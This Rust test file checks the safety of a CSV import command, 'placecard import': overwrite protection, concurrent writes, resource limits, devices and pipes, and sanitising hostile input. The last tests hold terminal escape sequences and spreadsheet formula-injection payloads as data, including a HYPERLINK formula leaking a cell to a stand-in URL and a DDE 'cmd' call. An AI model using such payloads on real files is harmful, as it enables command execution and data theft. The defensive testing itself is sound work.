//! What `placecard import` may write over and what it leaves alone; what it prints of other people's words.

use crate::commands::{AREAS, Folder, TIDY};
use assert_cmd::cargo::cargo_bin;
use std::fs;
use std::process::{Command, Stdio};

const NEW: &str = "data.csv areas.csv indicators.csv --area E54000901 --area England --title Two_Rivers";

#[test]
fn a_file_that_is_there_is_replaced_only_where_that_was_asked_for() {
    let folder = Folder::with_scorecard();
    let before = fs::read(folder.path("out.scorecard")).unwrap();
    let (status, out, err) = folder.import(&format!("{NEW} -o out.scorecard"));
    assert_eq!((status, out.as_str()), (2, ""));
    assert!(
        err.contains("There is already a file of this name") && err.ends_with("out.scorecard\n"),
        "{err}"
    );
    let (status, ..) = folder.import("data.csv --into out.scorecard -o areas.csv");
    assert_eq!(status, 2, "a source");
    assert_eq!(fs::read(folder.path("out.scorecard")).unwrap(), before);
    let (status, out, _) =
        folder.import(&format!("{NEW} -o out.scorecard --force").replace("Two_Rivers", "Other"));
    assert_eq!(status, 0, "{out}");
    assert_eq!(folder.read("out.scorecard")["title"], "Other");
    let (status, _, err) = folder.import("data.csv --into out.scorecard -o -");
    assert_eq!(status, 2);
    assert!(err.contains("not to standard output"), "{err}");
}

#[test]
fn a_source_is_never_written_to_under_any_name() {
    let folder = Folder::with_scorecard();
    fs::hard_link(folder.path("data.csv"), folder.path("second.csv")).unwrap();
    let mut names = vec!["data.csv", "./data.csv", "second.csv"];
    if cfg!(unix) {
        #[cfg(unix)]
        std::os::unix::fs::symlink("data.csv", folder.path("link.csv")).unwrap();
        names.push("link.csv");
    }
    for name in names {
        for call in ["-o", "--questions"] {
            let (status, _, err) =
                folder.import(&format!("data.csv --into out.scorecard --force {call} {name}"));
            assert_eq!(status, 2, "{call} {name}");
            assert!(err.contains("one of the sources"), "{err}");
        }
    }
    assert_eq!(fs::read_to_string(folder.path("data.csv")).unwrap(), TIDY);
}

/// Fills in what a table asks, where it is blank: column by column.
fn fill_in(folder: &Folder, name: &str, answers: &[(&str, &str)]) {
    let mut reader = csv::Reader::from_path(folder.path(name)).unwrap();
    let header = reader.headers().unwrap().clone();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    for row in reader.records() {
        let row = row.unwrap();
        let filled = header.iter().zip(&row).map(|(column, cell)| {
            let answer = answers.iter().find(|(asked, _)| cell.is_empty() && *asked == column);
            answer.map_or(cell, |(_, answer)| answer)
        });
        writer.write_record(filled).unwrap();
    }
    drop(reader);
    fs::write(folder.path(name), writer.into_inner().unwrap()).unwrap();
}

#[test]
fn the_same_call_again_takes_answers_from_its_tables_of_questions_and_keeps_them() {
    let folder = Folder::new();
    folder.write("data.csv", &TIDY.replace("E08000902", "market-quarter"));
    folder.write("areas.csv", AREAS);
    let call =
        "data.csv areas.csv --title Two_Rivers --system E54000901 -o out.scorecard --questions asked.csv";
    let (status, out, err) = folder.import(call);
    assert_eq!((status, err.as_str()), (1, ""), "{out}");
    fill_in(&folder, "asked.csv", &[("strand", "activity"), ("unit", "%")]);
    let (status, out, _) = folder.import(call);
    assert_eq!(status, 1, "{out}");
    assert!(
        !out.contains("/strand=") && out.contains("/polarity="),
        "what is filled in is not asked again: {out}"
    );
    let table = fs::read_to_string(folder.path("asked.csv")).unwrap();
    assert!(table.contains("activity") && table.contains('%'), "and stays: {table}");
    assert_eq!(table.matches("Adults who walk,").count(), 2, "one row of key and name: {table}");
    fill_in(&folder, "asked.csv", &[("kind", "proportions")]);
    let (_, out, _) = folder.import(call);
    assert!(out.contains("‘proportions’ is no word of the list; did you mean ‘proportion’?"), "{out}");
    let table = fs::read_to_string(folder.path("asked.csv")).unwrap();
    folder.write("asked.csv", &table.replace("proportions", "proportion"));
    fill_in(&folder, "asked.csv", &[("polarity", "higher-is-better")]);
    fill_in(&folder, "asked-areas.csv", &[("kind", "place")]);
    let (status, out, err) = folder.import(call);
    assert_eq!((status, err.as_str()), (0, ""), "{out}");
    let document = folder.read("out.scorecard");
    assert_eq!(document["indicators"][0]["strand"], "activity");
    assert!(document["areas"].as_array().unwrap().iter().any(|area| area["code"] == "market-quarter"));
}

#[test]
fn a_table_of_questions_replaces_nothing_else() {
    let folder = Folder::with_scorecard();
    folder.write("more.csv", "indicator,area,period,value\nRuns,E08000901,2024,3\nRuns,heath,2024,3\n");
    folder.write("minutes.csv", "item,decision\n1,none\n");
    let before = fs::read(folder.path("out.scorecard")).unwrap();
    for (name, says) in [
        ("out.scorecard --force", "This is the scorecard"),
        ("minutes.csv", "it is no table of questions"),
        ("more.csv --force", "one of the sources"),
    ] {
        let (status, _, err) = folder.import(&format!("more.csv --into out.scorecard --questions {name}"));
        assert_eq!(status, 2, "{name}");
        assert!(err.contains(says), "{err}");
    }
    // The table of areas goes beside the one of indicators, and the same holds for it.
    folder.write("new-areas.csv", "item,decision\n1,none\n");
    let call = "more.csv --into out.scorecard --area E08000901 --area heath --questions new.csv";
    let (status, out, err) = folder.import(call);
    assert_eq!(status, 2, "{out}");
    assert!(err.ends_with("new-areas.csv\n") && !folder.path("new.csv").exists(), "{err}");
    assert_eq!(fs::read_to_string(folder.path("new-areas.csv")).unwrap(), "item,decision\n1,none\n");
    assert_eq!(fs::read(folder.path("out.scorecard")).unwrap(), before);
    let (status, ..) = folder.import(&format!("{call} --force"));
    assert_eq!(status, 1);
    assert!(fs::read_to_string(folder.path("new-areas.csv")).unwrap().contains("heath"));
}

#[test]
fn a_table_of_areas_that_is_a_source_is_not_written_to() {
    let folder = Folder::with_scorecard();
    let more = "indicator,area,period,value\nRuns,E08000901,2024,3\nRuns,heath,2024,3\n";
    folder.write("more.csv", more);
    let areas = "code,name,kind\nE08000901,Upton,place\n";
    let mut names = vec!["asked-areas.csv"];
    folder.write("asked-areas.csv", areas);
    fs::hard_link(folder.path("asked-areas.csv"), folder.path("second.csv")).unwrap();
    names.push("second.csv");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("asked-areas.csv", folder.path("link.csv")).unwrap();
        names.push("link.csv");
    }
    for name in names {
        for force in ["", " --force"] {
            let call = format!(
                "more.csv {name} --into out.scorecard --area E08000901 --area heath --questions asked.csv{force}"
            );
            let (status, out, err) = folder.import(&call);
            assert_eq!(status, 2, "{out}");
            assert!(err.contains("one of the sources") && err.ends_with("asked-areas.csv\n"), "{err}");
            assert!(!folder.path("asked.csv").exists(), "neither is written");
        }
    }
    assert_eq!(fs::read_to_string(folder.path("asked-areas.csv")).unwrap(), areas);
}

#[test]
fn answers_are_read_and_kept_however_a_spreadsheet_saved_the_table() {
    let folder = Folder::new();
    folder.write("data.csv", TIDY);
    folder.write("areas.csv", AREAS);
    let call =
        "data.csv areas.csv --title Two_Rivers --system E54000901 -o out.scorecard --questions asked.csv";
    assert_eq!(folder.import(call).0, 1);
    let asked = fs::read_to_string(folder.path("asked.csv")).unwrap();
    let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(asked.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let column = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
    let (unit, hints) = (column("unit"), column("hints"));
    rows[1][unit] = "% of adults – Môn".to_owned();
    rows[1][hints].push_str("; Ann knows the strand");
    let mut capital = rows.clone();
    capital[0].iter_mut().for_each(|name| *name = name.to_uppercase());
    let without = |row: &Vec<String>| row.iter().take(hints).cloned().collect::<Vec<_>>();
    let bare: Vec<Vec<String>> = rows.iter().map(without).collect();
    let saved = |rows: &[Vec<String>], separator: u8| {
        let mut writer = csv::WriterBuilder::new().delimiter(separator).from_writer(Vec::new());
        for row in rows {
            writer.write_record(row).unwrap();
        }
        String::from_utf8(writer.into_inner().unwrap()).unwrap()
    };
    let utf_16 = format!("\u{feff}{}", saved(&rows, b'\t'));
    for (saved, has_hints) in [
        (saved(&rows, b';').into_bytes(), true),
        (utf_16.encode_utf16().flat_map(u16::to_le_bytes).collect(), true),
        (saved(&capital, b',').into_bytes(), true),
        (saved(&bare, b',').into_bytes(), false),
    ] {
        fs::write(folder.path("asked.csv"), saved).unwrap();
        let (status, out, err) = folder.import(call);
        assert_eq!((status, err.as_str()), (1, ""), "{out}");
        assert!(!out.contains("/unit=") && out.contains("/strand="), "the unit was answered: {out}");
        let table = fs::read_to_string(folder.path("asked.csv")).unwrap();
        assert!(table.contains("% of adults – Môn"), "{table}");
        assert_eq!(table.contains("; Ann knows the strand"), has_hints, "{table}");
        assert!(!table.contains("unit: in your own words") && table.contains("strand: "), "{table}");
    }
}

#[test]
fn a_table_that_may_hold_answers_is_not_replaced() {
    let folder = Folder::with_scorecard();
    folder.write("more.csv", "indicator,area,period,value\nRuns,E08000901,2024,3\n");
    for broken in [
        "indicator,name,kind,hints\n\"tidy:Runs,Runs,score,\n",
        "indicator,kind,area,value\ntidy:Runs,score,,\n",
    ] {
        folder.write("asked.csv", broken);
        for force in ["", " --force"] {
            let call = format!("more.csv --into out.scorecard --questions asked.csv{force}");
            let (status, _, err) = folder.import(&call);
            assert_eq!(status, 2, "{err}");
            assert!(err.contains("may hold answers") && !err.contains("--force"), "{err}");
            assert_eq!(fs::read_to_string(folder.path("asked.csv")).unwrap(), broken);
        }
    }
}

/// Starts two imports of different figures into one file at once, so many times. Gives how often both were taken.
fn imports_at_once(pairs: usize) -> usize {
    let folder = Folder::with_scorecard();
    let base = fs::read(folder.path("out.scorecard")).unwrap();
    let head = "indicator,area,period,value\nAdults who walk,E08000901,";
    let years = ["2025", "2026"];
    for year in years {
        folder.write(&format!("{year}.csv"), &format!("{head}{year},5.{year}\n"));
    }
    let mut both = 0;
    for pair in 0..pairs {
        fs::write(folder.path("out.scorecard"), &base).unwrap();
        let start = |year| {
            Command::new(cargo_bin("placecard"))
                .current_dir(folder.path(""))
                .args(["import", &format!("{year}.csv"), "--into", "out.scorecard", "-o", "out.scorecard"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        };
        let taken = years.map(start).map(|child| {
            let done = child.wait_with_output().unwrap();
            let err = String::from_utf8(done.stderr).unwrap();
            match done.status.code() {
                Some(0) => true,
                Some(3) => {
                    assert!(err.contains("has changed since it was read"), "{err}");
                    false
                }
                other => panic!("{other:?} {err}"),
            }
        });
        let text = fs::read_to_string(folder.path("out.scorecard")).unwrap();
        let there = years.map(|year| text.contains(&format!("5.{year}")));
        assert_eq!(there, taken, "pair {pair}: a figure is there exactly where the import ended with 0");
        assert!(taken.contains(&true), "pair {pair}: one of the two is first");
        both += usize::from(taken == [true, true]);
    }
    both
}

#[test]
fn of_two_imports_into_one_file_none_is_lost() {
    imports_at_once(8);
}

#[test]
#[ignore = "takes minutes"]
fn of_sixty_pairs_of_imports_into_one_file_none_is_lost() {
    println!("both were taken in {} of 60 pairs", imports_at_once(60));
}

#[test]
fn a_file_without_a_figure_is_a_fault_of_the_input() {
    let folder = Folder::with_scorecard();
    for (rows, says) in [
        ("", "There are no rows below the header"),
        ("Adults who walk,E08000901,soon,5\n", "The only row could not be used: "),
        (
            "Adults who walk,E08000901,soon,5\nAdults who walk,E08000901,late,5\n",
            "None of the 2 rows could be used: ",
        ),
    ] {
        folder.write("few.csv", &format!("indicator,area,period,value\n{rows}"));
        let (status, out, err) = folder.import("few.csv --into out.scorecard --dry-run");
        assert_eq!((status, out.as_str()), (1, ""), "{err}");
        assert!(err.contains(says) && err.contains("few.csv"), "{err}");
    }
    let (status, ..) = folder.import("data.csv --into out.scorecard --area Nowhere --dry-run");
    assert_eq!(status, 2, "what was chosen is not there");
}

/// Imports under a limit of the shell, such as `-f 1`: the exit status and what was said. The scorecard is then whole, as
/// it was unless all went well, and nothing lies beside it.
#[cfg(unix)]
fn import_under(limit: &str) -> (Option<i32>, String) {
    let folder = Folder::with_scorecard();
    let more = "indicator,area,period,value\nAdults who walk,E08000901,2025,57.5\n";
    folder.write("more.csv", more);
    let before = fs::read(folder.path("out.scorecard")).unwrap();
    let files = || fs::read_dir(folder.path("")).unwrap().count();
    let there = files();
    let call = format!("ulimit {limit} && exec \"$0\" import more.csv --into out.scorecard -o out.scorecard");
    let mut shell = Command::new("sh");
    shell.current_dir(folder.path("")).arg("-c").arg(call).arg(cargo_bin("placecard"));
    let done = shell.output().unwrap();
    let status = done.status.code();
    assert!(status == Some(0) || fs::read(folder.path("out.scorecard")).unwrap() == before, "{limit}");
    assert_eq!(files(), there, "{limit}");
    (status, String::from_utf8(done.stderr).unwrap())
}

#[test]
fn an_answer_that_another_one_makes_needless_is_said_and_refuses_nothing() {
    let folder = Folder::new();
    folder.write(
        "data.csv",
        "indicator,area,period,value\nHelp,E92000001,2023,0.123\nHelp,E08000002,2023,0.5\n",
    );
    let call = "data.csv --system QOP --title Help --accept -o help.scorecard --answer */polarity=neutral \
                --answer */strand=services --answer tidy:Help/shares=yes --answer tidy:Help/kind=proportion \
                --answer tidy:Help/unit=%";
    let (status, out, err) = folder.import(call);
    assert_eq!(status, 0, "{out}{err}");
    assert!(format!("{out}{err}").contains("‘tidy:Help/kind’ is not asked"), "{out}{err}");
    assert_eq!(folder.read("help.scorecard")["data"][0]["rows"][0]["values"][0], 12.3);
}

#[cfg(unix)]
#[test]
fn a_limit_on_the_size_of_files_is_an_error_of_the_machine() {
    let (status, err) = import_under("-f 1");
    assert_eq!(status, Some(3), "{err}");
    assert!(err.starts_with("error: The file is too large") && err.lines().count() == 1, "{err}");
}

#[cfg(unix)]
#[test]
fn a_limit_on_open_files_is_not_taken_for_another_program_that_saves() {
    for most in 5..=8 {
        let begun = std::time::Instant::now();
        let (status, err) = import_under(&format!("-n {most}"));
        assert!(matches!(status, Some(0 | 3)), "{most}: {status:?} {err}");
        assert!(!err.contains("Another program") && begun.elapsed().as_secs() < 20, "{most}: {err}");
    }
}

/// `/dev/full` refuses every byte, as a full disk does.
#[cfg(target_os = "linux")]
#[test]
fn a_report_that_cannot_be_printed_does_not_hide_what_was_written() {
    let folder = Folder::with_scorecard();
    let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let mut call = Command::new(cargo_bin("placecard"));
    call.current_dir(folder.path("")).args([
        "import",
        "data.csv",
        "--into",
        "out.scorecard",
        "-o",
        "new.scorecard",
    ]);
    let done = call.stdout(full).output().unwrap();
    let err = String::from_utf8(done.stderr).unwrap();
    assert_eq!(done.status.code(), Some(3));
    assert!(
        err.contains("could not be written") && err.contains("written all the same: new.scorecard"),
        "{err}"
    );
    assert!(folder.path("new.scorecard").exists());
}

#[cfg(unix)]
#[test]
fn devices_and_pipes_are_left_alone() {
    use std::os::unix::fs::FileTypeExt;
    let folder = Folder::with_scorecard();
    let socket = folder.path("socket");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    assert!(Command::new("mkfifo").arg(folder.path("pipe")).status().unwrap().success());
    for name in ["socket", "pipe", "/dev/null"] {
        for force in ["", " --force"] {
            let (status, _, err) = folder.import(&format!("data.csv --into out.scorecard -o {name}{force}"));
            assert_eq!(status, 3, "{err}");
            assert!(err.contains("This is a device, a pipe or a socket"), "{err}");
        }
    }
    assert!(fs::metadata(&socket).unwrap().file_type().is_socket());
    assert!(fs::metadata(folder.path("pipe")).unwrap().file_type().is_fifo());
    assert!(fs::metadata("/dev/null").unwrap().file_type().is_char_device());
}

const WILD: &str = "\u{1b}]0;x\u{7}\u{9b}31m\u{202e}";

fn is_wild(letter: char) -> bool {
    (letter.is_control() && letter != '\n') || letter == '\u{202e}'
}

#[test]
fn what_files_say_is_not_for_the_terminal_to_obey() {
    let folder = Folder::with_scorecard();
    let rows = format!(
        "indicator,area,period,value,note,extra{WILD}\n\
         Runs{WILD},E08000901,2024,3,note{WILD},\n\
         Runs{WILD},P{WILD}9,2024,3,,\n\
         Adults who walk,E08000901,20{WILD},3,,\n\
         Adults who walk,E08000901,2024,3{WILD},,\n"
    );
    let name = if cfg!(unix) { "wild\u{1b}[31m.csv" } else { "wild.csv" };
    folder.write(name, &rows);
    let call = format!("{name} --into out.scorecard --area E08000901 --area P{WILD}9 --dry-run");
    let asked = folder.import(&format!("{call} --questions asked.csv"));
    assert_eq!(asked.0, 1, "{asked:?}");
    let table = fs::read_to_string(folder.path("asked.csv")).unwrap();
    assert!(!table.replace('\u{feff}', "").contains(is_wild), "{table:?}");
    fs::remove_file(folder.path("asked.csv")).unwrap();
    fs::remove_file(folder.path("asked-areas.csv")).unwrap();
    let answers = "--answer */into=a_new_indicator --answer */kind=score --answer */unit=x --answer */polarity=neutral \
                   --answer */strand=outcomes --answer area/*/kind=leave_out";
    let done = folder.import(&format!("{call} {answers}"));
    assert_eq!(done.0, 0, "{done:?}");
    folder.write("other.csv", &format!("colour{WILD},taste\nblue,sweet\n"));
    let unknown = folder.import("other.csv --into out.scorecard --dry-run");
    assert_eq!(unknown.0, 1);
    assert!(unknown.2.contains("colour"), "{unknown:?}");
    for (_, out, err) in [asked, done, unknown] {
        assert!(!out.contains(is_wild) && !err.contains(is_wild), "{out:?} {err:?}");
    }
}

#[test]
fn a_table_of_questions_holds_no_formula_and_still_names_what_it_asks_about() {
    let folder = Folder::with_scorecard();
    let formulas = ["=HYPERLINK(\"\"http://x/\"\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"];
    let rows =
        formulas.map(|formula| format!("\"{formula}\",E08000901,2024,3\n\"{formula}\",\"=a&b\",2024,3\n"));
    folder.write("more.csv", &format!("indicator,area,period,value\n{}", rows.concat()));
    let call =
        "more.csv --into out.scorecard --area E08000901 --area =a&b --questions asked.csv -o new.scorecard";
    assert_eq!(folder.import(call).0, 1);
    for name in ["asked.csv", "asked-areas.csv"] {
        let mut reader = csv::Reader::from_path(folder.path(name)).unwrap();
        let starts = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(reader.records().all(|row| !row.unwrap().iter().any(starts)), "{name}");
    }
    fill_in(
        &folder,
        "asked.csv",
        &[
            ("into", "new"),
            ("kind", "score"),
            ("unit", "steps"),
            ("polarity", "neutral"),
            ("strand", "outcomes"),
        ],
    );
    fill_in(&folder, "asked-areas.csv", &[("kind", "place")]);
    let (status, out, err) = folder.import(call);
    assert_eq!((status, err.as_str()), (0, ""), "{out}");
    let document = folder.read("new.scorecard");
    let names: Vec<&str> = document["indicators"].as_array().unwrap()[1..]
        .iter()
        .map(|indicator| indicator["name"].as_str().unwrap())
        .collect();
    let mut expected = formulas.map(|formula| formula.replace("\"\"", "\""));
    expected.sort();
    assert_eq!(names, expected);
    assert!(document["areas"].as_array().unwrap().iter().any(|area| area["name"] == "=a&b"));
}
